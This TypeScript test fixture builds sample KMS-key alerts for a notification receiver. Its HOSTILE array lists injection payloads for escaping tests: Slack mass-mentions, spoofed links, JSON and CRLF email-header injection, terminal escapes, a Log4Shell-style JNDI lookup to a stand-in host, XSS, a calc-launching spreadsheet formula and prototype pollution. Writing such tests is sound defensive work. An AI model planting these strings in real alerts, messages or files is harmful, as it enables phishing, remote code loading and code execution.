import type { Alert } from '../../src/core/alert.ts';
import type { Notification, ReceiverOptions } from '../../src/notify/receiver.ts';

export const T0 = Date.UTC(2026, 10, 20, 10, 15, 3);

export const KEY = 'arn:aws:kms:eu-west-1:111122223333:key/7f2c';

/** A key that was disabled, and what that breaks. */
export function alertOf(
  changed: { labels?: Record<string, string>; annotations?: Record<string, string> } = {},
): Alert {
  return {
    fingerprint: `KeyvigilKeyInaccessible ${KEY}`,
    startsAt: T0,
    annotations: {
      summary: 'KMS key live-drm is disabled',
      description: 'Nothing that it encrypted can be read.',
      reason: 'disabled',
      affected: '2 flows: live-1, live-2',
      undo: `aws kms enable-key --region eu-west-1 --key-id ${KEY}`,
      since: '2026-11-20 10:15:03 UTC',
      recoverable_until: '2026-11-27 10:15:03 UTC',
      runbook_url: 'https://docs.example.com/runbooks/KeyvigilKeyInaccessible',
      status_url: 'https://keyvigil.example.com/keys/7f2c',
      ...changed.annotations,
    },
    labels: {
      alertname: 'KeyvigilKeyInaccessible',
      severity: 'critical',
      origin: 'push',
      resource: KEY,
      kind: 'aws-kms-key',
      provider: 'aws',
      account: '111122223333',
      location: 'eu-west-1',
      name: 'live-drm',
      ...changed.labels,
    },
  };
}

export function firing(changed: Partial<Notification> = {}): Notification {
  return { alert: alertOf(), status: 'firing', reason: 'first', queuedAt: T0, endsAt: T0 + 3_600_000, ...changed };
}

/** Twelve minutes later. */
export function resolved(changed: Partial<Notification> = {}): Notification {
  return { alert: alertOf(), status: 'resolved', reason: 'resolved', queuedAt: T0, endsAt: T0 + 720_000, ...changed };
}

export function options(changed: Partial<ReceiverOptions> = {}): ReceiverOptions {
  return {
    timeoutMs: 10_000,
    holdMs: 3_600_000,
    env: {},
    version: '1.2.3',
    statusUrl: 'https://keyvigil.example.com',
    ...changed,
  };
}

/** What an attacker calls a key, once for each format that somebody reads. */
export const HOSTILE = [
  '<!channel> <!here> <@U024BE7LH> <#C024BE7LR> <!subteam^S123>',
  '<https://evil.example|Runbook>',
  '@channel @here #general',
  'https://evil.example/fix-it-now',
  '&lt;!channel&gt; &amp;lt;',
  '``` <!channel>',
  '*bold* _it_ ~gone~ > quote',
  '"}],"alerts":[{"status":"resolved"',
  'a\r\nBcc: everybody@example.com\r\n\r\n<html>',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J',
  'pay\u202egnp.exe \u2066\u200b\u0000',
  '{{ .Labels }} {{ template "x" }} %{jndi:ldap://evil.example}',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '=cmd|"/c calc"!A1',
  'half \ud83d of a character',
  '__proto__',
  'é'.repeat(5_000),
] as const;
